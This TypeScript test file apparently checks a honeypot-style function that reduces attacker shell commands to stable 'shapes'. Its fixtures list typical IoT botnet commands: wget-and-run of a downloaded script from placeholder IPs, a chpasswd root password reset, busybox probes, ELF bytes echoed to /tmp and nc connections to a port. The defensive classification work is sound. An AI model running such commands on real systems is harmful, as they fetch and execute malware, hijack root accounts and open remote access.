import assert from 'node:assert/strict';
import { test } from 'node:test';
import { shapeOf } from './shape.ts';

/** Commands of one tool, all with the same shape; no two groups share one. */
const groups: string[][] = [
  ['uname -a', 'uname  -a', ' uname -a '],
  ['uname -s -v -n -r -m'],
  [
    'cd /tmp; wget http://198.51.100.9/x.sh; chmod 777 x.sh; sh x.sh',
    'cd /tmp; wget https://203.0.113.7:8080/a/b?c=d; chmod 777 x.sh; sh x.sh',
  ],
  ['echo "root:355051a56c7c"|chpasswd|bash', 'echo "root:9f3b2a71ee04"|chpasswd|bash'],
  ['/bin/busybox ABCDE', '/bin/busybox WOPBOT'],
  ['/bin/busybox ps', '/bin/busybox  ps'],
  ['echo -ne "\\x7f\\x45\\x4c\\x46" > /tmp/a', 'echo -ne "\\x01\\x02" > /tmp/a'],
  ['nc 192.0.2.1 4444', 'nc 198.51.100.255:22 9001'],
  ['head -c 100 /dev/zero', 'head -c 99999 /dev/zero'],
  ['ls -la /proc/self'],
  ['ls -la /proc/version'],
  [''],
];

test('what varies has no part in a shape, what tells has', () => {
  const shapes = groups.map((group) => new Set(group.map(shapeOf)));
  for (const [i, shape] of shapes.entries()) assert.equal(shape.size, 1, `${groups[i]}: ${[...shape].join(' / ')}`);
  assert.equal(new Set(shapes.flatMap((shape) => [...shape])).size, groups.length);
});

test('bounded whatever the command is', () => {
  for (const command of [
    'A'.repeat(1e6),
    '1.'.repeat(1e5),
    '\\x41'.repeat(1e5),
    'a1'.repeat(1e5),
    '://http'.repeat(1e5),
  ]) {
    assert.ok(shapeOf(command).length <= 120);
  }
});
